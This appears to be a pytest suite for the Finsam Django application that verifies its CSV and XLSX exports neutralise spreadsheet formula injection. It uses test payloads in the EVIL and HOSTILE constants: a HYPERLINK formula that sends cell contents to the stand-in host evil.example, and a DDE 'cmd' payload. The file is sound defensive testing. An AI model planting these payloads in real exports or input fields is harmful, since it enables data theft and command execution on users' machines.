"""Issue 14 item 6: no text Finsam writes to csv or xlsx can evaluate as a formula.

A hostile name (``EVIL``) is put where users can type text – the association, its members, an
intervention, a questionnaire item – and every export format is read back: csv with the csv
module (the cell starts with the guard quote), xlsx with openpyxl (a string cell, never a
formula). Numbers stay numbers, negative ones included. Interchange files import again unchanged.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from io import StringIO

import openpyxl
import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from finsam.domain import safe_cells
from tests.conftest import login
from tests.reports.conftest import registry  # noqa: F401 (a fixture)

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _csv_cells(data: bytes | str) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show as "f"
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert_csv(data, text: str = EVIL) -> None:
    cells = _csv_cells(data)
    assert "'" + text in cells, "the hostile text is in the file, guarded"
    assert text not in cells
    for cell in cells:
        assert not (cell[:1] in safe_cells.FORMULA_START and safe_cells.needs_quote(cell)), cell


def assert_inert_xlsx(data: bytes, text: str = EVIL) -> None:
    cells = _xlsx_cells(data)
    assert all(c.data_type != "f" for c in cells)
    hits = [c for c in cells if c.value == text]
    assert hits and all(c.data_type == "s" for c in hits)


# ---------------------------------------------------------------- the helper itself


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_is_quoted_in_csv_and_read_back(text):
    assert safe_cells.csv_cell(text) == "'" + text
    assert safe_cells.csv_unquote(safe_cells.csv_cell(text)) == text


@pytest.mark.parametrize(
    "value", [-5, -1.5, Decimal("-12.50"), 0, "-5", "-1 234,5", "+46", "-", "", None, "Ärende"]
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cells.csv_cell(value) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r1a ,.%e"), max_size=8) | st.text(max_size=20))
def test_quote_and_unquote_are_exact_inverses(text):
    written = safe_cells.csv_cell(text)
    assert safe_cells.csv_unquote(written) == text
    if text.lstrip("'")[:1] in safe_cells.FORMULA_START and written == text:
        assert len(text) <= 1 or safe_cells.is_plain_number(text)


def test_web_downloads_csv_and_xlsx():
    from finsam.web import outputs

    rows = [[EVIL, -3, -2.5, "-7"], ["ok", 1, 2.0, "x"]]
    data = outputs.csv_bytes(["namn", "a", "b", "c"], rows)
    assert_inert_csv(data)
    assert ["ok", "1", "2.0", "x"] in list(csv.reader(io.StringIO(data.decode())))
    assert "-3" in _csv_cells(data) and "-7" in _csv_cells(data)
    book = outputs.xlsx_workbook({"Tabell": (["namn", "a", "b", "c"], rows)}, notes=[EVIL])
    assert_inert_xlsx(book)
    numbers = [c.value for c in _xlsx_cells(book) if c.data_type == "n"]
    assert -3 in numbers and -2.5 in numbers


# ---------------------------------------------------------------- through the app


@pytest.fixture
def hostile(world):
    """The association, a member and the person intervention all carry the hostile name."""
    from finsam.registry.models import Association, Intervention, Member

    Association.objects.filter(pk=world["association"].pk).update(name=EVIL)
    Member.objects.filter(association=world["association"], kind="FK").update(name=EVIL)
    Intervention.objects.filter(pk=world["persons"].pk).update(name=EVIL)
    return world


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_interchange_exports_are_inert_and_import_again_unchanged(hostile, tmp_path, suffix):
    from finsam.registry.models import Association, Intervention, Member

    for kind in ("associations", "members", "interventions"):
        path = tmp_path / f"{kind}.{suffix}"
        call_command("export", kind, "--output", str(path), stdout=StringIO())
        data = path.read_bytes()
        assert_inert_xlsx(data) if suffix == "xlsx" else assert_inert_csv(data)
    for kind in ("associations", "members", "interventions"):
        out = StringIO()
        call_command("import", kind, str(tmp_path / f"{kind}.{suffix}"), stdout=out)
    assert Association.objects.get(code="SBG").name == EVIL
    assert Member.objects.get(association__code="SBG", kind="FK").name == EVIL
    assert Intervention.objects.get(code="SBG-IND").name == EVIL


@pytest.mark.usefixtures("registry")
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reports_are_inert(hostile, tmp_path, fmt):
    path = tmp_path / f"r.{fmt}"
    call_command(
        "report", "utfall", "--from", "2025-01-01", "--to", "2025-12-31",
        "--format", fmt, "--output", str(path),
    )  # fmt: skip
    data = path.read_bytes()
    assert_inert_xlsx(data) if fmt == "xlsx" else assert_inert_csv(data)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_allocation_is_inert(db, tmp_path, fmt):
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(
            ["association_code", "name", "support_measure_sek", "population_16_64",
             "previous_allocation", "equity", "revenue", "requested"]
        )  # fmt: skip
        w.writerow(["SBG", EVIL, "300000000", "30000", "1000000", "100000", "2000000", ""])
        w.writerow(["OTH", "Annat", "500000000", "60000", "2500000", "2000000", "5000000", ""])
    path = tmp_path / f"a.{fmt}"
    call_command(
        "allocation", str(source), "--frame", "2000000", "--format", fmt, "--output", str(path)
    )
    data = path.read_bytes()
    assert_inert_xlsx(data) if fmt == "xlsx" else assert_inert_csv(data)


def test_budget_lines_export_is_inert_and_imports_again(world, tmp_path):
    from finsam.finance.interchange import write_budget_lines_csv

    out = StringIO()
    write_budget_lines_csv([{"association_code": "SBG", "year": "2025", "line": EVIL,
                             "category": "", "intervention_code": "", "budget": "-5",
                             "actual": ""}], out)  # fmt: skip
    assert_inert_csv(out.getvalue())
    from finsam.domain import tabular

    _header, rows, problems = tabular.read_table(out.getvalue().encode())
    assert not problems and rows[0][2] == EVIL and rows[0][5] == "-5"


def test_audit_export_is_inert(hostile, client):
    from finsam.audit.models import LogType
    from finsam.audit.services import audit_record

    system = hostile["users"]["system_admin"]
    audit_record(actor=system, log_type=LogType.CHANGE, action="test", summary=EVIL)
    response = login(client, system).get("/granskningslogg/?format=csv")
    assert response.status_code == 200
    assert_inert_csv(response.content)


def test_indicator_definitions_export_is_inert_and_imports_again():
    from dataclasses import replace

    from finsam.domain.indicators import transfer
    from finsam.indicators.services import STARTER_FILE

    starter = transfer.parse(STARTER_FILE.read_text(encoding="utf-8"), filename="starter.json")
    first = starter.questionnaires[0]
    items = (replace(first.items[0], text=EVIL), *first.items[1:])
    hostile = replace(
        starter, questionnaires=(replace(first, items=items), *starter.questionnaires[1:])
    )
    text = transfer.to_csv(hostile)
    assert_inert_csv(text)
    again = transfer.parse(text, filename="definitions.csv")
    assert again.questionnaires[0].items[0].text == EVIL


def test_evaluation_csv_is_inert():
    from finsam.evaluation import EVALUATION_COLUMNS
    from finsam.evaluation.report import rows_to_csv

    text = rows_to_csv([{EVALUATION_COLUMNS[0]: EVIL, EVALUATION_COLUMNS[-1]: -1.5}])
    assert_inert_csv(text)
    assert "-1.5" in _csv_cells(text)
